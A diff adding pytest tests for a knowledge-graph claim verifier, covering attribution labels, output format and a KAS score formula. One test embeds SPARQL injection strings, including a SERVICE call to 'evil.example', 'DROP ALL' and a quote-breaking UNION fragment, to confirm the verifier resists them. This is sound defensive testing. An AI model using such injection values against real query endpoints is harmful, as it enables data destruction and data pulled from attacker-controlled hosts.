@@ -1,0 +1,89 @@
+"""Labels, scores, explanations, KAS and hostile claim text."""
+
+from __future__ import annotations
+
+import pytest
+
+from kg.errors import KGError
+from kg.verify import ClaimResult, kas
+
+
+@pytest.mark.parametrize("text,label", [
+    ("Marie Curie was born in Warsaw.", "attributable"),
+    ("Maria Skłodowska was born in Warszawa.", "attributable"),          # aliases
+    ("Marie Curie was born in Poland.", "attributable"),                # multi-hop via transitive located in
+    ("Paris is the capital of France.", "attributable"),
+    ("The capital of Germany is Berlin.", "attributable"),              # inverse phrasing
+    ("Isaac Newton was a scientist.", "attributable"),                  # type + subclass
+    ("Marie Curie was born in 1867.", "attributable"),                  # year precision
+    ("The Eiffel Tower is 330 metres tall.", "attributable"),           # structured value with unit
+    ("The Seine is 777 km long.", "attributable"),                      # unit datatype
+    ("Mont Blanc is 4.8 km high.", "attributable"),                     # unit conversion
+    ("Autism is not caused by the MMR vaccine.", "attributable"),       # negated claim, negative statement
+    ("Marie Curie was born in Paris.", "contradictory"),                # functional property
+    ("Berlin is the capital of France.", "contradictory"),              # inverse + functional
+    ("Autism is caused by the MMR vaccine.", "contradictory"),          # negative statement
+    ("Pluto is a planet.", "contradictory"),                            # owl:NegativePropertyAssertion
+    ("Marie Curie was not born in Warsaw.", "contradictory"),           # negated claim
+    ("Albert Einstein was born on 15 March 1879.", "contradictory"),    # date at day precision
+    ("Berlin has 5 million inhabitants.", "contradictory"),             # number beyond tolerance
+    ("Alan Turing was a citizen of France.", "extrapolatory"),          # open world, non-functional
+    ("Albert Einstein played the violin.", "extrapolatory"),
+    ("Mozart was born in Salzburg.", "no_attribution"),
+])
+def test_labels(verifier, text, label):
+    res = verifier.verify_sentence(text)
+    assert res.label == label, res.explanation
+    assert 0.0 <= res.score <= 1.0
+    assert res.explanation.endswith(".")
+    if label in ("attributable", "contradictory"):
+        assert res.evidence and res.score > 0
+        # the rationale names the evidence by label
+        assert res.evidence[0].p_label in res.explanation or "negative" in res.explanation
+
+
+def test_json_shape(verifier):
+    res = verifier.verify_text("Marie Curie was born in Warsaw. Pierre Curie died in Warsaw.")
+    d = res.to_dict()
+    assert set(d) == {"kas", "claims"}
+    for c in d["claims"]:
+        assert set(c) == {"text", "start", "end", "label", "score", "evidence", "explanation"}
+        for e in c["evidence"]:
+            assert set(e) == {"s", "p", "o", "s_label", "p_label", "o_label"}
+    assert [c["label"] for c in d["claims"]] == ["attributable", "contradictory"]
+
+
+def test_hostile_claim_text(verifier, no_network):
+    text = ('Marie Curie ("Madame Curie") was born in {Warsaw}; SERVICE <http://evil.example/sparql> { ?s ?p ?o }. '
+            'SELECT * WHERE { SERVICE <http://x.example/> { ?a ?b ?c } } LIMIT 1; DROP ALL. '
+            "Pierre Curie's \"death\" place ') } UNION { ?x ?y ?z' was Paris.")
+    res = verifier.verify_text(text)
+    labels = [c.label for c in res.claims]
+    assert labels[0] == "attributable", res.claims[0].explanation
+    assert ("http://example.org/attest/MarieCurie", "http://example.org/attest/birthPlace",
+            "http://example.org/attest/Warsaw") in {(e.s, e.p, e.o) for e in res.claims[0].evidence}
+    assert all(lab == "no_attribution" for lab in labels[1:-1])
+    assert labels[-1] != "contradictory"
+    for c in res.claims:
+        assert text[c.start:c.end] == c.text
+    # junk inside the claim itself never turns a supported fact into a contradiction
+    junk = verifier.verify_sentence('Marie Curie was born in Warsaw "} SERVICE <http://e.example/> { ?s ?p ?o } #')
+    assert junk.label in ("attributable", "extrapolatory")
+    assert any(e.p_label == "place of birth" for e in junk.evidence)
+
+
+def test_empty_document_rejected(verifier):
+    with pytest.raises(KGError, match="empty"):
+        verifier.verify_text("   \n\t ")
+
+
+def test_kas_formula():
+    def c(label, score, weight=1.0):
+        return ClaimResult("x", 0, 1, label, score, (), "", "x", weight)
+
+    assert kas([c("attributable", 1.0), c("attributable", 1.0)]) == 1.0
+    assert kas([c("attributable", 1.0), c("extrapolatory", 0.0)]) == 0.5
+    assert kas([c("attributable", 1.0), c("no_attribution", 0.0)]) == 1.0
+    assert kas([c("attributable", 1.0), c("contradictory", 1.0)]) == 0.0
+    assert kas([c("attributable", 1.0, 3.0), c("contradictory", 0.5, 1.0)]) == pytest.approx((3 - 1) / 4)
+    assert kas([]) == 0.0
